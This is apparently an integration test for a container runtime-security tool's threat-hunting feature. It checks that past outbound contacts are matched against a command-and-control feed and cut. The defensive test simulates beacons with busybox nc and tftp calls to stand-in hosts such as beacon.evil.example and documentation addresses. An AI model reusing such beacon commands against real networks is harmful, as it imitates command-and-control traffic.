import { spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { DatabaseSync } from "node:sqlite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { importDebian, repaired } from "./debian-root.ts";
import { Pratique } from "./pratique.ts";
import { engineUnavailable } from "./private-engine.ts";

const sensor = path.resolve(import.meta.dirname, "../../dist/sensor/pratique-sensor");
const DNSMASQ = "/usr/sbin/dnsmasq";
const unavailable =
  engineUnavailable() ??
  (existsSync(sensor) ? undefined : "the native sensor has not been built") ??
  (existsSync(DNSMASQ) ? undefined : "needs dnsmasq");
if (unavailable !== undefined) console.warn(`SKIPPED: hunt.test.ts ${unavailable}`);

/** In the network of one container, which leads nowhere. */
const PEER = "203.0.113.66";
const DATAGRAMS = "203.0.113.67";
const WARNED = "203.0.113.68";
const RESOLVER = "203.0.113.53";
const ADDRESSES = [PEER, DATAGRAMS, WARNED, RESOLVER];
const NAME = "beacon.evil.example";
const ALIAS = "edge.hidden.example";

interface Hit {
  readonly container: { readonly name: string; readonly image: string; readonly imageId: string };
  readonly executable: string;
  readonly kind: string;
  readonly peer: string;
  readonly port: number;
  readonly name: string;
  readonly answers: readonly string[];
  readonly count: number;
  readonly firstAt: string;
  readonly lastAt: string;
  readonly isNew?: boolean;
  readonly indicators: readonly { readonly value: string; readonly source: string }[];
  readonly response: { readonly kind: string; readonly action?: string };
}

describe.skipIf(unavailable !== undefined)(
  `the past of a real engine (${unavailable ?? "runs here"})`,
  () => {
    let pratique: Pratique;
    let imageId: string;
    let resolver: number | undefined;

    beforeAll(async () => {
      pratique = new Pratique({ runtime: "auto" });
      const config = path.join(pratique.directory, "pratique.yaml");
      writeFileSync(config, "runtime: { channel: cut, prevent: engine }\ngate: { mode: observe }\n");
      pratique.environment.PRATIQUE_CONFIG = config;
      await pratique.up(["--private-engine"]);
      imageId = importDebian(pratique.engineHost, "shop:good", repaired);
      await pratique.until("the sensor runs", 60_000, () => pratique.command(["rules", "list"]).code === 0);
    });
    afterAll(async () => {
      if (resolver !== undefined) process.kill(resolver, "SIGKILL");
      await pratique?.[Symbol.asyncDispose]();
    });

    /** A container with addresses of its own that peers answer at. */
    function startContainer(name: string): void {
      // The host's own C library asks for names as most programs do.
      const library = ["/usr", "/lib", "/lib64"].flatMap((place) => ["-v", `${place}:${place}:ro`]);
      const flags = ["--network", "none", "--cap-add", "NET_ADMIN", "--dns", RESOLVER, ...library];
      const started = pratique.docker(["run", "-d", "--name", name, ...flags, "shop:good", "sleep", "600"]);
      if (started.code !== 0) throw new Error(started.stderr);
      for (const address of ADDRESSES) {
        expect(inside(name, `ip addr add ${address}/32 dev lo`)).toMatchObject({ code: 0 });
      }
    }

    const inside = (name: string, script: string) => pratique.docker(["exec", name, "sh", "-c", script]);

    /** A real server of names, in the network of the container. */
    function startResolver(name: string): number {
      const pid = pratique.docker(["inspect", "--format", "{{.State.Pid}}", name]).stdout.trim();
      const records = [`--host-record=${ALIAS},${PEER}`, `--cname=${NAME},${ALIAS}`];
      const listening = [`--listen-address=${RESOLVER}`, "--bind-interfaces", "--port=53"];
      const own = [
        "--conf-file=/dev/null",
        "--no-resolv",
        "--no-hosts",
        "--keep-in-foreground",
        "--pid-file=",
      ];
      const child = spawn(
        "nsenter",
        ["-t", pid, "-n", DNSMASQ, ...own, "--user=root", ...listening, ...records],
        {
          stdio: "ignore",
        },
      );
      if (child.pid === undefined) throw new Error("no resolver");
      return child.pid;
    }

    function hunt(...more: readonly string[]): { readonly code: number; readonly hits: readonly Hit[] } {
      const { code, stdout, stderr } = pratique.command(["intel", "hunt", "--format", "json", ...more]);
      if (stdout === "") throw new Error(stderr);
      return { code, hits: JSON.parse(stdout).hits };
    }

    const feed = () => `list:${path.join(pratique.directory, "c2.txt")}`;
    const lists = () => path.join(pratique.directory, "warning-lists");
    const shown = (hits: readonly Hit[]) =>
      hits.map(({ kind, peer, port }) => `${kind} ${peer} ${port}`).sort();

    it("finds what a container spoke to before any feed knew of it, though container and agent are gone", async () => {
      startContainer("shop");
      resolver = startResolver("shop");
      const begun = Date.now();
      await expect.poll(() => inside("shop", `/usr/bin/getent ahostsv4 ${NAME}`).stdout).toContain(PEER);
      inside(
        "shop",
        `(/bin/busybox nc -l -p 443 >/dev/null &) ; sleep 1; echo beacon | /bin/busybox nc -w 2 ${PEER} 443`,
      );
      inside(
        "shop",
        `echo beacon | /bin/busybox nc -w 1 ${PEER} 443; echo beacon | /bin/busybox nc -w 1 ${PEER} 443`,
      );
      inside("shop", `echo beacon | /bin/busybox nc -w 1 ${WARNED} 443`);
      // Sends datagrams without being connected.
      inside("shop", `/bin/busybox timeout 2 /bin/busybox tftp -g -r beacon -l /tmp/beacon ${DATAGRAMS}`);

      writeFileSync(
        path.join(pratique.directory, "c2.txt"),
        `${PEER}\n${DATAGRAMS}\n${WARNED}\nevil.example\nhidden.example\n`,
      );
      mkdirSync(lists(), { recursive: true });
      const list = {
        name: "Test",
        version: 1,
        type: "cidr",
        list: [WARNED],
        matching_attributes: ["ip-dst"],
      };
      writeFileSync(path.join(lists(), "list.json"), JSON.stringify(list));
      const from = ["--from", feed(), "--warning-lists", lists()];
      // Contacts are written within some seconds, and how often they were made within a minute.
      await pratique.until("it is in the past", 100_000, () => {
        const { hits } = hunt(...from);
        const isCounted = hits.some(
          ({ kind, peer, count }) => kind === "out" && peer === PEER && count === 3,
        );
        return isCounted && shown(hits).some((text) => text.startsWith(`out ${DATAGRAMS}`));
      });
      pratique.docker(["rm", "--force", "shop"]);
      const [agent] = pratique.processes("agent");
      if (agent !== undefined) process.kill(agent, "SIGKILL");

      const { code, hits } = hunt(...from);
      expect(code).toBe(2);
      // The server is in the same container, and is called from the address that it answers at.
      const names = [`alias ${ALIAS} 0`, `name ${NAME} 0`];
      const met = [...names, `in ${PEER} 443`, `out ${DATAGRAMS} 69`, `out ${PEER} 443`];
      expect(shown(hits)).toEqual(met.sort());
      for (const hit of hits) {
        expect(hit.container).toMatchObject({ name: "shop", image: "shop:good", imageId });
        const asks = hit.kind === "name" || hit.kind === "alias";
        expect(hit.executable).toBe(asks ? "/usr/bin/getent" : "/bin/busybox");
        expect(Date.parse(hit.firstAt)).toBeGreaterThanOrEqual(Math.floor(begun / 1000) * 1000);
        expect(Date.parse(hit.lastAt)).toBeLessThanOrEqual(Date.now());
      }
      const called = hits.find(({ kind, peer }) => kind === "out" && peer === PEER);
      expect(called).toMatchObject({
        name: NAME,
        count: 3,
        indicators: [{ value: PEER, source: feed() }],
        response: { kind: "rehearsed", action: "cut" },
      });
      const asked = hits.find(({ kind }) => kind === "name");
      expect(asked).toMatchObject({
        answers: [PEER],
        indicators: [{ value: "evil.example" }],
        response: { kind: "question" },
      });
      const all = hunt(...from, "--all").hits.find(({ peer }) => peer === WARNED);
      expect(all?.response).toEqual({ kind: "told" });
      const text = pratique.command(["intel", "hunt", ...from]).stdout;
      expect(text).toMatch(/^shop, image shop:good \(sha256:[0-9a-f]{12}\), container [0-9a-f]{12}$/mu);
      expect(text).toMatch(/^ {2}\/bin\/busybox called 203\.0\.113\.66:443\/tcp.*, 3 times from /mu);
      expect(text).not.toContain(WARNED);
    });

    it("shows it before a set is put in force, and leaves the set before on a dry run", async () => {
      const update = ["intel", "update", "--from", feed(), "--warning-lists", lists()];
      const dry = pratique.command([...update, "--dry-run"]);
      expect(dry.code).toBe(2);
      expect(dry.stdout).toContain(`/bin/busybox called ${PEER}:443/tcp`);
      expect(pratique.command(["intel", "status"]).code).toBe(3);
      expect(readdirSync(pratique.data("intel")).filter((name) => name.endsWith(".sqlite"))).toEqual([]);
      const updated = pratique.command([...update, "--hunt"]);
      expect(updated).toMatchObject({ code: 0 });
      expect(updated.stdout).toContain(`/bin/busybox called ${PEER}:443/tcp`);
      expect(updated.stdout).toContain("is in force");
      expect(shown(hunt().hits)).toContain(`out ${PEER} 443`);
    });

    it("does nothing about a container that meets what is only told, although channels are cut", async () => {
      await pratique.until(
        "the sensor runs again",
        60_000,
        () => pratique.command(["rules", "list"]).code === 0,
      );
      startContainer("warned");
      const detected = () => recorded("detection.raised").filter(({ fields }) => fields?.listed === WARNED);
      await pratique.until("it is told", 60_000, () => {
        inside("warned", `echo hello | /bin/busybox nc -w 1 ${WARNED} 443`);
        return detected().length > 0;
      });
      await pratique.until("a listed one is cut", 60_000, () => {
        inside("warned", `echo hello | /bin/busybox nc -w 1 ${PEER} 443`);
        return recorded("response.done").length > 0;
      });
      const reasons = recorded("response.done").map(({ reason }) => reason);
      expect(reasons.filter((reason) => reason?.includes(WARNED))).toEqual([]);
    });

    function recorded(action: string): readonly { reason?: string; fields?: { listed?: string } }[] {
      using log = new DatabaseSync(pratique.data("audit/log.sqlite"), { readOnly: true });
      const rows = log.prepare("SELECT data FROM record WHERE action = ?").all(action);
      return rows.map(({ data }) => JSON.parse(String(data)));
    }

    it("leaves no process behind", async () => {
      await pratique.down();
      expect(spawnSync("pgrep", ["-f", pratique.directory]).status).not.toBe(0);
    });
  },
);
